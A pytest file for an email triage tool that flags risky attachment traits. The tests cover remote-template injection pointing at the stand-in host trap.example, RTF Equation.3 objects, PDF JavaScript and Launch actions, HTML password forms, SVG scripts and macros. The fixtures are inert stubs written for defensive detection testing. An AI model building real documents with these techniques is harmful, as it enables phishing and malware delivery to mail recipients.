"""What documents carry besides their text."""

# ruff: noqa: E501  # payloads stay in one piece

import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kit.mails import a_zip
from triage_warden.connectors.mail.documents import (
    office_links,
    office_traits,
    page_traits,
    pdf_traits,
    rtf_traits,
    svg_traits,
)
from triage_warden.core.facts.mail.model import AttachmentTrait as Trait

RELATIONSHIP = (
    b'<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" '
    b'Target="http://trap.example/t.dotm" TargetMode="External"/></Relationships>'
)


def test_a_template_fetched_from_outside_is_seen() -> None:
    """ATT&CK T1221; a plain hyperlink is only a link."""
    names = ("[Content_Types].xml", "word/_rels/settings.xml.rels")
    remote = a_zip((names[0], b""), (names[1], RELATIONSHIP % b"attachedTemplate"))
    linked = a_zip((names[0], b""), (names[1], RELATIONSHIP % b"hyperlink"))
    assert office_traits(remote, names) == {Trait.REMOTE_TEMPLATE}
    assert office_traits(linked, names) == set()
    assert office_links(linked, names) == ["http://trap.example/t.dotm"]


def test_embedded_objects_are_seen_by_their_parts() -> None:
    """Objects lie in a folder of their own."""
    names = ("[Content_Types].xml", "word/embeddings/oleObject1.bin")
    assert Trait.EMBEDDED_OBJECT in office_traits(a_zip(*((name, b"x") for name in names)), names)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"{\\rtf1 {\\object\\objdata 0105}}", {Trait.EMBEDDED_OBJECT}),
        (b"{\\rtf1 Equation.3 }", {Trait.EQUATION_OBJECT}),
        (b"{\\rtf1 {\\*\\template http://trap.example/x}}", {Trait.REMOTE_TEMPLATE}),
        (b"{\\rtf1 plain}", set()),
    ],
)
def test_rtf_shows_what_it_embeds(content: bytes, expected: set[Trait]) -> None:
    """The equation editor is met in exploits only."""
    assert rtf_traits(content) == expected


def test_a_pdf_is_looked_into_also_where_it_is_compressed() -> None:
    """Actions and links hide in object streams, names behind hash escapes."""
    stream = zlib.compress(b"<< /S /URI /URI (https://trap.example/a\\)b) >> << /S /J#61vaScript /JS (x) >>")
    traits, links = pdf_traits(b"%PDF-1.7\n1 0 obj <<>> stream\r\n" + stream + b"\nendstream")
    assert traits == {Trait.PDF_SCRIPT, Trait.PDF_LINK}
    assert links == ["https://trap.example/a)b"]


def test_pdf_actions_and_locks_are_seen() -> None:
    """Launch actions and encryption stand in the clear."""
    assert pdf_traits(b"%PDF-1.4 /Launch /EmbeddedFile trailer /Encrypt 5 0 R")[0] == {
        Trait.PDF_LAUNCH,
        Trait.PDF_EMBEDDED_FILE,
        Trait.ENCRYPTED,
    }
    assert pdf_traits(b"%PDF-1.4 nothing to see")[0] == set()


def test_pages_show_what_they_do() -> None:
    """Password forms, redirects, smuggling."""
    assert page_traits("<form action='https://a.example/p'><input type='password'>")[0] == {Trait.HTML_PASSWORD_FORM}
    assert page_traits("<meta http-equiv=refresh content='0;url=https://a.example'>")[0] == {Trait.HTML_REDIRECT}
    assert page_traits("<p>report</p>") == (set(), [])
    assert page_traits("<a href=https://a.example/x>")[1] == ["https://a.example/x"]


def test_a_drawing_with_script_is_told_from_a_drawing() -> None:
    """Pictures need none."""
    assert svg_traits("<svg><script>x</script></svg>") == {Trait.SVG_SCRIPT}
    assert svg_traits("<svg onload=x()></svg>") == {Trait.SVG_SCRIPT}
    assert svg_traits("<svg><path d='M0 0'/></svg>") == set()


def test_macros_are_seen_by_their_part() -> None:
    """A project that cannot be read is a project all the same."""
    names = ("[Content_Types].xml", "word/vbaProject.bin")
    assert office_traits(a_zip(*((name, b"broken") for name in names)), names) == {Trait.MACROS}


@settings(deadline=None)  # the first call imports olevba
@given(st.binary(max_size=200))
def test_any_bytes_are_a_document_of_any_kind(data: bytes) -> None:
    """A broken document says nothing and fails nowhere."""
    office_traits(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + data, ())
    pdf_traits(b"%PDF-" + data)
    rtf_traits(data)
